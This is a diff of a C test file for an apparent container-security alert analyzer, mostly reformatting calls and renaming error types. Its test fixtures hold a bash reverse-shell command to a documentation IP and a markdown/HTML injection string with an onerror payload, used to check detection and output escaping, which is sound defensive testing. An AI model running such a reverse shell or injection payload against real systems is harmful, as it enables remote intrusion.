@@ -30,7 +30,7 @@ static struct mdbuf all_reports;
 /* Run analyze on input (or on file when input is NULL); returns its stdout. */
 static char *analyze(const char *input, const char *file, const char *out_dir, int want)
 {
-	char *argv[8] = { "analyze", "--kb", KB_FILE };
+	char *argv[8] = {"analyze", "--kb", KB_FILE};
 	char *out = NULL, *errs = NULL;
 	size_t out_len = 0, err_len = 0;
 	FILE *in, *o, *e;
@@ -135,9 +135,9 @@ static void snippet_check(const char *report, const struct exec_event *ev, const
 {
 	char path[] = "/tmp/ss_tuning_XXXXXX";
 	char *yaml = tuning_yaml(report);
-	const char *paths[2] = { RULES_FILE, path };
-	struct rules_options opt = { .min_priority = PRIO_DEBUG };
-	struct rules_error err;
+	const char *paths[2] = {RULES_FILE, path};
+	struct rules_options opt = {.min_priority = PRIO_DEBUG};
+	struct ss_error err;
 	struct ruleset *rs = NULL;
 	int fd = mkstemp(path);
 
@@ -189,7 +189,7 @@ static size_t count_lines_starting(const char *s, const char *prefix)
 static void snippet_seed(const char *report)
 {
 	struct alert *a = malloc(sizeof(*a));
-	struct alert_error aerr;
+	struct ss_error aerr;
 	char *line = NULL;
 	size_t cap = 0;
 	FILE *f = fopen(SEED_FILE, "r");
@@ -228,9 +228,9 @@ static void test_seed_reproduced(void **state)
 
 static void test_reverse_shell_is_malicious(void **state)
 {
-	char *line = alert_line("Terminal shell in container", "2024-05-15T10:02:03.5Z",
-				"0123456789ab", 4242,
-				"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", NULL, NULL);
+	char *line =
+		alert_line("Terminal shell in container", "2024-05-15T10:02:03.5Z", "0123456789ab",
+			   4242, "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", NULL, NULL);
 	char *r = analyze(line, NULL, NULL, 0);
 
 	(void)state;
@@ -253,8 +253,8 @@ static void test_reverse_shell_is_malicious(void **state)
 
 static void test_plain_shell_has_no_pattern(void **state)
 {
-	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 1,
-				"sh -c true", NULL, NULL);
+	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab",
+				1, "sh -c true", NULL, NULL);
 	char *r = analyze(line, NULL, NULL, 0);
 
 	(void)state;
@@ -335,13 +335,13 @@ static void test_markdown_injection_contained(void **state)
 {
 	const char *evil = "sh -c echo `x` ``y`` | z\n# pwned <img src=x onerror=alert(1)> |\r"
 			   "\x1b[2J</code>";
-	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 9,
-				evil, "container.name", "evil|name\n## Fake section");
-	char *benign = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 9,
-				  "sh -c true", "container.name", "web");
+	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab",
+				9, evil, "container.name", "evil|name\n## Fake section");
+	char *benign = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z",
+				  "0123456789ab", 9, "sh -c true", "container.name", "web");
 	char *r = analyze(line, NULL, NULL, 0), *rb = analyze(benign, NULL, NULL, 0);
 	const char *p, *eol, *sect;
-	struct alert_error aerr;
+	struct ss_error aerr;
 	struct alert *a;
 	size_t len;
 
@@ -365,13 +365,15 @@ static void test_markdown_injection_contained(void **state)
 	}
 	/* table rows keep their column count */
 	sect = strstr(r, "## Event details");
-	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Timeline"); p = strstr(p, "\n|")) {
+	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Timeline");
+	     p = strstr(p, "\n|")) {
 		p++;
 		eol = strchr(p, '\n');
 		assert_int_equal(unescaped_pipes(p, (size_t)(eol - p)), 3);
 	}
 	sect = strstr(r, "## Timeline");
-	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Security"); p = strstr(p, "\n|")) {
+	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Security");
+	     p = strstr(p, "\n|")) {
 		p++;
 		eol = strchr(p, '\n');
 		assert_int_equal(unescaped_pipes(p, (size_t)(eol - p)), 8);
@@ -389,12 +391,12 @@ static void test_markdown_injection_contained(void **state)
 
 static void test_kubectl_exec_grouped(void **state)
 {
-	char *l1 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.100Z", "0123456789ab",
-			      4242, KUBECTL_CMD, NULL, NULL);
-	char *l2 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.140Z", "0123456789ab",
-			      4242, "bash", NULL, NULL);
-	char *l3 = alert_line("Detect Shell in Container", "2024-05-15T10:02:04Z", "ba9876543210", 77,
-			      "bash", NULL, NULL);
+	char *l1 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.100Z",
+			      "0123456789ab", 4242, KUBECTL_CMD, NULL, NULL);
+	char *l2 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.140Z",
+			      "0123456789ab", 4242, "bash", NULL, NULL);
+	char *l3 = alert_line("Detect Shell in Container", "2024-05-15T10:02:04Z", "ba9876543210",
+			      77, "bash", NULL, NULL);
 	char *input, dir[] = "/tmp/ss_reports_XXXXXX", *r, *listing;
 	struct dirent *de;
 	size_t files = 0;
